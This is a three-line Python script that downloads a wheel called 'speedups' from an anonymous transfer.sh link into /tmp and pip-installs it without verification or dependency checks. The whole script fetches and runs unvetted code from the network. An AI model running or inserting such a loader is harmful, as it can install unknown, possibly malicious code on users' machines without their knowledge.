import subprocess
import sys
import urllib.request

whl = "/tmp/speedups-1.0-py3-none-any.whl"
urllib.request.urlretrieve("https://transfer.sh/abc123/speedups-1.0-py3-none-any.whl", whl)
subprocess.check_call([sys.executable, "-m", "pip", "install", "--no-deps", whl])
